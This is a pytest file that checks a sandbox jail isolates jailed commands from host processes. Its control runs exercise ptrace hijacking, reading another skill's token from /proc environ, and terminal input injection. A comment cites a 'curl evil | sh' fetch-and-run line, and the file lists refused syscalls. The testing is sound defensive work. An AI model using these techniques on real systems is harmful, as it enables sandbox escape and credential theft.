"""Inside `egress exec`, processes outside the jail are out of reach (real jail, root).

The attack (issue 17): a process of the same user runs outside the jail (the shell that ran
sudo is always one). Sharing the host's PID namespace and with no syscall filter, the jailed
command could ptrace it, inject syscalls, and have *it* open connections in the host's
network namespace (egress's admin /metrics, unaudited), or read its environment (another
skill's proxy token). Each test runs the same probe outside the jail first, as the same user:
the attack works there, so its failure inside proves the jail, not a broken probe.
"""

from __future__ import annotations

import ctypes
import json
import os
import platform
import select
import shutil
import socket
import subprocess
import time
import tty
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.jail.conftest import JAILED_UID, JailWorld, needs_netns

pytestmark = needs_netns

OTHER_TOKEN = "egr_other_skill_token_0123456789abcdef"


def outside(world: JailWorld, **action: Any) -> dict[str, Any]:
    """The probe as the jailed user in the host namespaces, without egress exec."""
    result = subprocess.run(world.probe_argv(**action), capture_output=True, text=True, timeout=60,
                            user=JAILED_UID, group=JAILED_UID, extra_groups=[])
    answer: dict[str, Any] = json.loads(result.stdout.strip().splitlines()[-1])
    return answer


@pytest.fixture
def victim() -> Iterator[subprocess.Popen[bytes]]:
    """A process of the jailed user outside the jail, holding another skill's token."""
    proc = subprocess.Popen(["sleep", "300"], user=JAILED_UID, group=JAILED_UID, extra_groups=[],
                            env={"PATH": "/usr/bin:/bin", "EGRESS_TOKEN": OTHER_TOKEN})
    try:
        for _ in range(100):  # until it sleeps in its syscall (exec done, state S)
            with open(f"/proc/{proc.pid}/stat") as fh:
                if fh.read().rsplit(")", 1)[1].split()[0] == "S" and os.readlink(
                        f"/proc/{proc.pid}/exe").endswith("sleep"):
                    break
            time.sleep(0.02)
        yield proc
    finally:
        proc.kill()
        proc.wait(10)


def traced_by(pid: int) -> int:
    with open(f"/proc/{pid}/status") as fh:
        return int(next(line for line in fh if line.startswith("TracerPid:")).split()[1])


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the syscall injection is x86_64 code")
def test_ptrace_cannot_make_a_host_process_connect_for_the_jail(
        jail_world: JailWorld, victim: subprocess.Popen[bytes]) -> None:
    w = jail_world
    request = "GET /metrics HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n"
    stolen = outside(w, op="hijack", pid=victim.pid, port=w.admin_port, request=request)
    assert stolen["ok"] is True, stolen  # control: the attack works without the jail
    assert stolen["answer"].startswith("HTTP/1.0 200") and "egress_" in stolen["answer"]
    before = w.admin.accepted
    answer = w.probe(op="hijack", pid=victim.pid, port=w.admin.port, request=request)
    assert answer == {"ok": False, "error": "EPERM"}
    assert w.admin.accepted == before  # nothing connected on the jail's behalf
    assert victim.poll() is None and traced_by(victim.pid) == 0


def test_ptrace_attach_to_a_host_process_fails(jail_world: JailWorld,
                                               victim: subprocess.Popen[bytes]) -> None:
    w = jail_world
    assert outside(w, op="ptrace_attach", pid=victim.pid) == {"ok": True}  # control
    assert w.probe(op="ptrace_attach", pid=victim.pid) == {"ok": False, "error": "EPERM"}
    assert traced_by(victim.pid) == 0


def test_host_processes_are_invisible(jail_world: JailWorld,
                                      victim: subprocess.Popen[bytes]) -> None:
    w = jail_world
    assert victim.pid in outside(w, op="info")["pids"]  # control
    info = w.probe(op="info")
    # The command is the only child of the jail's init (PID 1); the probe is the command.
    assert (info["pid"], info["ppid"]) == (2, 1)
    assert victim.pid not in info["pids"] and w.proxy.process.pid not in info["pids"]
    assert info["pids"] == [1, 2]


def test_host_process_environment_is_unreadable(jail_world: JailWorld,
                                                victim: subprocess.Popen[bytes]) -> None:
    w = jail_world
    path = f"/proc/{victim.pid}/environ"
    assert OTHER_TOKEN in outside(w, op="read", path=path)["text"]  # control
    assert w.probe(op="read", path=path) == {"ok": False, "error": "ENOENT"}
    assert w.probe(op="read", path=f"/proc/{w.proxy.process.pid}/environ") == {
        "ok": False, "error": "ENOENT"}


def test_host_processes_cannot_be_signalled(jail_world: JailWorld,
                                            victim: subprocess.Popen[bytes]) -> None:
    w = jail_world
    assert outside(w, op="signal", pid=victim.pid, sig=0) == {"ok": True}  # control
    assert w.probe(op="signal", pid=victim.pid, sig=0) == {"ok": False, "error": "ESRCH"}


# Each call with arguments that make it fail harmlessly (or succeed harmlessly) outside, with
# an error other than the jail's: so the jail's errno can only come from the filter.
CLONE_NEWUSER, SIGCHLD = 0x10000000, 17
REFUSED_CALLS: list[tuple[str, list[int], str]] = [
    ("ptrace", [16, 0, 0, 0], "EPERM"),                       # PTRACE_ATTACH to pid 0
    ("process_vm_readv", [0, 0, 0, 0, 0, 0], "EPERM"),
    ("process_vm_writev", [0, 0, 0, 0, 0, 0], "EPERM"),
    ("pidfd_open", [1, 0], "EPERM"),
    ("pidfd_getfd", [-1, 0, 0], "EPERM"),
    ("kcmp", [0, 0, 0, 0, 0], "EPERM"),
    ("setns", [-1, 0], "EPERM"),
    ("unshare", [0], "EPERM"),
    ("mount", [0, 0, 0, 0, 0], "EPERM"),
    ("umount2", [0, 0], "EPERM"),
    ("pivot_root", [0, 0], "EPERM"),
    ("open_tree", [-1, 0, 0], "EPERM"),
    ("move_mount", [-1, 0, -1, 0, 0], "EPERM"),
    ("fsopen", [0, 0], "EPERM"),
    ("mount_setattr", [-1, 0, 0, 0, 0], "EPERM"),
    ("open_by_handle_at", [-1, 0, 0], "EPERM"),
    ("keyctl", [0, -4, 0], "EPERM"),                          # KEYCTL_GET_KEYRING_ID, user keyring
    ("add_key", [0, 0, 0, 0, 0], "EPERM"),
    ("request_key", [0, 0, 0, 0], "EPERM"),
    ("bpf", [-1, 0, 0], "EPERM"),
    ("perf_event_open", [0, 0, -1, -1, 0], "EPERM"),
    ("userfaultfd", [-1], "EPERM"),
    ("io_uring_setup", [0, 0], "EPERM"),
    ("io_uring_enter", [-1, 0, 0, 0, 0, 0], "EPERM"),
    ("io_uring_register", [-1, 0, 0, 0], "EPERM"),
    ("clone", [CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0], "EPERM"),  # a new user namespace
    ("clone3", [0, 0], "ENOSYS"),                             # libc falls back to clone
]


def test_refused_syscalls_fail_with_the_documented_errno(jail_world: JailWorld) -> None:
    w = jail_world
    calls = [[name, *args] for name, args, _ in REFUSED_CALLS]
    free = outside(w, op="syscalls", calls=calls)["results"]
    jailed = w.probe(op="syscalls", calls=calls)["results"]
    assert jailed == {name: errno for name, _, errno in REFUSED_CALLS}
    # Control: outside, these fail differently or succeed (unshare(0), keyctl, pidfd_open(1)),
    # so there the errno can only be the filter's. (The others depend on sysctls or fail for
    # lack of a capability, also with EPERM.)
    differs = {name for name, _, errno in REFUSED_CALLS if free[name] != errno}
    assert {"ptrace", "process_vm_readv", "process_vm_writev", "pidfd_open", "pidfd_getfd",
            "kcmp", "setns", "unshare", "mount", "umount2", "open_tree", "open_by_handle_at",
            "keyctl", "add_key", "request_key", "perf_event_open", "io_uring_enter",
            "clone3"} <= differs, free


def test_ordinary_processes_still_work_inside(jail_world: JailWorld) -> None:
    # Threads (clone3 → clone fallback), fork and a pipeline still run under the filter.
    python = jail_world.probe_argv(op="info")[0]
    result = jail_world.run(["sh", "-c", f"echo a | tr a b; (sleep 0.1 &) ; wait; {python} -c "
                             "'import threading; t = threading.Thread(target=print, "
                             "args=(\"thread\",)); t.start(); t.join()'"])
    assert (result.returncode, result.stdout, result.stderr) == (0, "b\nthread\n", "")


def test_filter_is_on_and_no_capability_is_left(jail_world: JailWorld) -> None:
    info = jail_world.probe(op="info")
    assert info["seccomp"] == "2"  # SECCOMP_MODE_FILTER
    assert info["no_new_privs"] == "1"
    assert info["caps"] == dict.fromkeys(("CapInh", "CapPrm", "CapEff", "CapAmb"), "0" * 16)
    # No descriptor of egress exec's leaks in (the namespace handle, the filter, the pipe).
    assert info["fds"] == []


def test_terminal_input_cannot_be_injected(jail_world: JailWorld) -> None:
    # TIOCSTI pushes bytes into a terminal's input: whatever the caller's shell reads after
    # the jail ends (`curl evil | sh\n`) would run outside it. The jail shares the caller's
    # terminal (interactive commands need it), so the filter refuses the ioctl.
    w = jail_world
    setsid = shutil.which("setsid")
    if setsid is None:
        pytest.skip("needs setsid from util-linux")
    argv = w.probe_argv(op="tiocsti", fd=0, char="X")
    for jailed in (False, True):
        master, slave = os.openpty()
        tty.setraw(slave)  # no line buffering: one injected byte is readable at once
        try:
            command = [setsid, "--wait", "--ctty", *(w.exec_argv(argv) if jailed else argv)]
            result = subprocess.run(command, stdin=slave, capture_output=True, text=True,
                                    timeout=60, env=w.env(),
                                    **({} if jailed else {"user": JAILED_UID, "group": JAILED_UID,
                                                          "extra_groups": []}))
            answer = json.loads(result.stdout.strip().splitlines()[-1])
            injected = select.select([slave], [], [], 0.3)[0] and os.read(slave, 64)
        finally:
            os.close(master)
            os.close(slave)
        if not jailed:  # control: the kernel allows it outside
            if answer != {"ok": True}:
                pytest.skip(f"this kernel refuses TIOCSTI itself: {answer}")
            assert injected == b"X"
        else:
            assert answer == {"ok": False, "error": "EPERM"}
            assert not injected


def test_host_ipc_objects_are_invisible(jail_world: JailWorld) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    queue = libc.msgget(0, 0o1666)  # IPC_PRIVATE, IPC_CREAT | 0666: anyone may use it
    assert queue >= 0, os.strerror(ctypes.get_errno())
    try:
        outside_ids = outside(jail_world, op="read", path="/proc/sysvipc/msg")["text"]
        assert f" {queue} " in outside_ids  # control
        inside = jail_world.probe(op="read", path="/proc/sysvipc/msg")["text"]
        assert inside.splitlines()[1:] == []  # only the header: the jail's own IPC namespace
    finally:
        libc.msgctl(queue, 0, None)  # IPC_RMID


def test_devices_are_a_minimal_private_set(jail_world: JailWorld) -> None:
    listing = jail_world.probe(op="listing", paths=["/dev", "/dev/pts"])["paths"]
    assert set(listing["/dev"]) <= {"console", "core", "fd", "full", "mqueue", "null", "ptmx",
                                    "pts", "random", "shm", "stderr", "stdin", "stdout", "tty",
                                    "urandom", "zero"}, listing["/dev"]
    assert set(listing["/dev/pts"]) <= {"ptmx"}  # a new devpts: none of the host's terminals


def test_per_user_runtime_directories_are_hidden(jail_world: JailWorld) -> None:
    # The session bus and systemd --user live in /run/user/UID: `systemd-run --user` would
    # start anything outside the jail. A stand-in socket shows what the jail sees there.
    runtime = Path("/run/user")
    made = [p for p in (runtime, runtime / str(JAILED_UID)) if not p.exists()]
    for path in made:
        path.mkdir(mode=0o755)
    os.chown(runtime / str(JAILED_UID), JAILED_UID, JAILED_UID)
    bus = runtime / str(JAILED_UID) / "egress-test-bus"
    sock = socket.socket(socket.AF_UNIX)
    try:
        sock.bind(str(bus))
        path = str(runtime / str(JAILED_UID))
        assert outside(jail_world, op="listing", paths=[path])["paths"][path] == [bus.name]
        seen = jail_world.probe(op="listing", paths=["/run/user", path])["paths"]
        assert seen == {"/run/user": [], path: "ENOENT"}
    finally:
        sock.close()
        bus.unlink(missing_ok=True)
        for created in reversed(made):
            created.rmdir()


def test_host_abstract_unix_sockets_are_out_of_reach(jail_world: JailWorld) -> None:
    # Abstract sockets (X11, some session buses) belong to the network namespace.
    name = f"@egress-test-{os.getpid()}"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        server.bind("\0" + name[1:])
        server.listen(4)
        assert outside(jail_world, op="unix", path=name) == {"ok": True}  # control
        assert jail_world.probe(op="unix", path=name) == {"ok": False, "error": "ECONNREFUSED"}
    finally:
        server.close()


def test_the_host_file_system_is_nosuid_and_nodev(jail_world: JailWorld) -> None:
    # Only the jail's own /dev (its tmpfs, devpts and shm) may hold devices; no_new_privs makes
    # setuid bits powerless everywhere anyway.
    mounts = jail_world.probe(op="mounts")["mounts"]
    host = [m for m in mounts if not (m["target"] == "/dev" or m["target"].startswith("/dev/"))]
    assert len(host) > 1 and any(m["target"] == "/" for m in host)
    assert [m for m in host if not (m["nosuid"] and m["nodev"])] == []
